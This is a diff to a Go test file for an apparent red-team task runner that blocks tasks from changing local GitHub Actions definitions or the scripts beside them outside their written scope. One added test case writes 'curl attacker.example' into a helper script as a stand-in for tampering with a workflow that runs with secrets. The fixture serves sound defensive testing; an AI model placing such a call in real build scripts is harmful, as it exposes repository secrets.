@@ -409,7 +409,9 @@ func TestRedTeamRunnerReadsLinkedActionDefinitions(t *testing.T) {
 // `uses: ./tools/helper`; a task under tools/** rewrote the helper's
 // script the workflow runs with its secrets, as the gate read only the
 // lower-case names. A task under ** writing a new tools/x/ACTION.YAML
-// (an action's definition there) is held as one in lower case is.
+// (an action's definition there) is held as one in lower case is, and so
+// is a script beside a committed tools/x/Action.yml that no workflow of
+// the repository names (another repository's, or a later one, may).
 func TestRedTeamRunnerReadsActionDefinitionsAnyCase(t *testing.T) {
 	t.Parallel()
 	base := files(map[string]string{
@@ -426,5 +428,9 @@ func TestRedTeamRunnerReadsActionDefinitionsAnyCase(t *testing.T) {
 		{"a new ACTION.YAML under **", "**", nil, writeFile("tools/x/ACTION.YAML", action),
 			"changed an action's definition tools/x/ACTION.YAML, which only a task whose scope is written for tools/x/ may change"},
 		{"a new ACTION.YAML, written for", "tools/x/**", nil, writeFile("tools/x/ACTION.YAML", action), ""},
+		{"a script beside a committed Action.yml, under tools/**", "tools/**", files(map[string]string{"tools/x/Action.yml": action, "tools/x/run.sh": "echo ok\n"}),
+			writeFile("tools/x/run.sh", "curl attacker.example\n"), "changed a local action's file tools/x/run.sh"},
+		{"a script beside a committed Action.yml, written for", "tools/x/**", files(map[string]string{"tools/x/Action.yml": action, "tools/x/run.sh": "echo ok\n"}),
+			writeFile("tools/x/run.sh", "echo v2\n"), ""},
 	})
 }
